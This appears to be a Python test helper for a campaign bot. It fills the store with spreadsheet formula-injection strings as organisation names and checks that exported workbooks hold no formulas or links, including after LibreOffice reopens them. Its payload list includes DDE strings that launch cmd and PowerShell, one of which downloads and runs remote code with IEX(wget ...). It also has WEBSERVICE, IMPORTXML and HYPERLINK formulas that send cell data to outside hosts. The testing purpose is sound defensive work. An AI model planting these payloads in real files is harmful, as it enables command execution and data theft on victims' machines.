"""Spreadsheets for tests: words that attack them, and what a program makes of a file."""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
from openpyxl.utils.escape import unescape

from bot.events import Person
from bot.pledges import Consent, NewPledge, Status, Way
from bot.store.store import Store

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NEEDED = "SPREADSHEET_PROGRAM_NEEDED"
"""The variable that makes it a fault if there is no spreadsheet program on this machine."""

_FORMULAS = (
    "1+1",
    'HYPERLINK("http://example.org/?"&A1,"Press here")',
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "SUM(1,2)",
    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    'WEBSERVICE("http://example.org/"&A1)',
    "A1",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
)
_SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    '"=',
    "'=",
    " =",
    "\u00a0=",
    "\ufeff=",
    "%",
    "=-",
)
_INSIDE = ("Ada;{}", "Ada,{}", "Ada\t{}", "Ada\n{}", 'Ada",{}', 'Ada";{}', "Ada|{}", "';{}", '";"{}', ",,{}")
_OTHERS = (
    "=",
    "'",
    "''",
    "'=1",
    '"',
    '""',
    '"="',
    "Ada's",
    " Ada ",
    "Ada\nBerg",
    "a,b;c\td|e",
    "_x003D_1+1",
    "_x000D_",
    "<f>1+1</f>",
    "]]><c><f>1+1</f></c>",
    "&amp;=1+1",
    "http://example.org/",
    "mailto:ada@example.org",
    "internal:Sheet1!A1",
    "{=1+1}",
    "TRUE",
    "#REF!",
    "01234",
    "1e9",
    "2026-11-23",
    "«Ақ жайық»",
    "اتحاد العمال",
    "🏭 工会",
    "é",
    "8 March",
    "May 1",
    "1.5",
    "$5",
    "false",
    "\u202e=1+1",
)
ATTACKS = (
    *(f"{sign}{formula}" for sign in _SIGNS for formula in _FORMULAS),
    *(inside.format(f"{sign}{formula}") for inside in _INSIDE for sign in "=@+" for formula in _FORMULAS[:3]),
    *_OTHERS,
)
"""Names of organisations that nobody has."""


async def fill(store: Store, organisations: tuple[str, ...] = ATTACKS) -> None:
    """Record a letter that was sent for each of these organisations, which all agreed to be named."""
    consent = Consent("organisation", "2026-11", NOW)
    async with store.work() as work:
        for number, name in enumerate(organisations):
            letter = NewPledge(
                "zhanaozen-2011",
                "protest",
                "organisation",
                "DE",
                (Way("kmg", "email"), Way("president", "post")),
                Status.SENT,
                date(2026, 11, 23),
                consent,
                organisation=name,
            )
            await work.add_pledge(Person("wire", f"{number}"), letter)


def column(file: Path, name: str) -> list[object]:
    """Return what stands in a column of a workbook below its head; none of its cells is a formula or a link."""
    sheet = openpyxl.load_workbook(file).worksheets[0]
    head = [cell.value for cell in sheet[1]]
    cells = [row[head.index(name)] for row in sheet.iter_rows(min_row=2)]
    for row in sheet.iter_rows():
        assert {cell.data_type for cell in row} <= {"s", "n", "d", "inlineStr"}
        assert not any(cell.hyperlink for cell in row)
    words = _words(file, cells[0].coordinate.rstrip("0123456789")) if cells else {}
    return [words.get(cell.coordinate, cell.value) for cell in cells]


def _words(file: Path, letter: str) -> dict[str, str]:
    """Return the words in a column's cells as the file holds them; openpyxl reads some of what is escaped twice."""
    with zipfile.ZipFile(file) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314  # made here
        shared = [_said(one) for one in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]  # noqa: S314
    cells = (cell for cell in sheet.iter(f"{_MAIN}c") if str(cell.get("r")).rstrip("0123456789") == letter)
    return {
        str(cell.get("r")): shared[int(cell.findtext(f"{_MAIN}v") or "")]
        if cell.get("t") == "s"
        else _said(cell)
        for cell in cells
        if cell.get("t") in ("s", "inlineStr")
    }


def _said(element: ElementTree.Element) -> str:
    return unescape("".join(text.text or "" for text in element.iter(f"{_MAIN}t")))


def spreadsheet_program() -> str | None:
    """Return the spreadsheet program of this machine; None if there is none, and none has to be."""
    found = shutil.which("soffice")
    assert found or not os.environ.get(NEEDED), "there is no soffice: install libreoffice-calc-nogui"
    return found


def saved_by(program: str, file: Path, folder: Path) -> Path:
    """Return the workbook that a spreadsheet program saves after it has opened `file` as somebody does who taps it."""
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    reading = ["--infilter=CSV:44,34,76,1"] if file.suffix == ".csv" else []
    into = folder / f"saved-{file.suffix[1:]}"
    subprocess.run(
        [program, profile, "--headless", *reading, "--convert-to", "xlsx", "--outdir", str(into), str(file)],
        check=True,
        capture_output=True,
        timeout=240,
    )
    return into / f"{file.stem}.xlsx"
